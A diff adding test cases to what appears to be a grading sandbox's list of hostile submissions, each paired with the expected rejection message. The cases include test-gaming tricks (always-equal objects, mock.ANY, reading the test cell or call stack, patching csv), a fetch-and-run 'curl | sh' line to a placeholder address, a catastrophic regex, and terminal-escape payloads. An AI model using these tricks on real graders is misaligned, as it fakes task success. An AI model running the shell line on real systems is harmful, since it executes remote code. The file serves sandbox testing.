@@ -147,6 +147,22 @@ WORSE = (
     _worse("memory-shared", FORKED % (3, "import mmap; part = mmap.mmap(-1, 1 << 30); part.write(bytes(1 << 30))"), "ran out of time"),
     _worse("memory-of-many", FORKED % (12, "hold = bytearray(b'x') * (100 << 20)"), BROKEN),
     _worse("memory-in-sockets", FORKED % (30, "import socket; hold = [socket.socketpair() for _ in range(110)]"), BROKEN),
+    # Values that equal everything, and tests that their own subject reads.
+    _worse("equals-everything", "from unittest.mock import ANY\ndef hottest(cups): return ANY", "defines what equal means"),
+    _worse("equals-by-magic", "%time from unittest.mock import ANY\ndef hottest(cups): return ANY", "defines what equal means"),
+    _worse("equals-by-a-type", "T = type('T', (), {'__eq__': lambda self, other: True})\ndef hottest(cups): return T()", "defines what equal means"),
+    _worse("equals-later", "class T: pass\nT.__eq__ = lambda self, other: True\ndef hottest(cups): return T()", "defines what equal means"),
+    _worse("reads-the-test", "def hottest(cups): return globals()['In'][-1].rsplit('\"', 2)[-2]", "in a roundabout way"),
+    _worse("reads-the-test-by-main", "import __main__ as m\ndef hottest(cups): return m.In[-1].rsplit('\"', 2)[-2]", "reads the cells that were run"),
+    _worse("reads-the-test-by-eval", "def hottest(cups): return eval('In[-1]').rsplit('\"', 2)[-2]", "runs code that it makes"),
+    _worse("reads-the-stack", "import traceback\ndef hottest(cups): return traceback.extract_stack()[-2].line.rsplit('\"', 2)[-2]", "looks at the code that calls it"),
+    _worse("replaces-a-library", "import csv\ncsv.DictReader = lambda file: [{'name': 'blue', 'heat': '1'}]\n" + SOLVE, "replaces a part of a library"),
+    _worse("listens-to-all", "import sys\nsys.addaudithook(lambda *a: None)\n" + SOLVE, "traces later code"),
+    _worse("leaves-by-the-shell", "!curl http://192.0.2.1/ | sh\n" + SOLVE, "starts other programs"),
+    # Work that no signal interrupts, and ends that are no errors.
+    _worse("counts-digits", "import sys\nsys.set_int_max_str_digits(0)\nstr(10 ** 3_000_000)", "ran out of time"),
+    _worse("searches-for-ever", "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')\n" + SOLVE, "ran out of time"),
+    _worse("fails-later", "import asyncio\nasync def go(): raise SystemExit\nasyncio.ensure_future(go())\n" + SOLVE, "stopped with an error (SystemExit)"),
     # Lines of the summary, and an educator's terminal.
     _worse("forges-lines", "raise type('X)\\n  failed: trainee-01: could not be graded\\n  note: (', (Exception,), {})('x')", "X) failed: trainee-01"),
     _worse("clears-the-screen", "raise type('\\x1b[2J\\x1b[H\\x1b]0;owned\\x07', (Exception,), {})('x')", "stopped with an error (\ufffd[2J"),
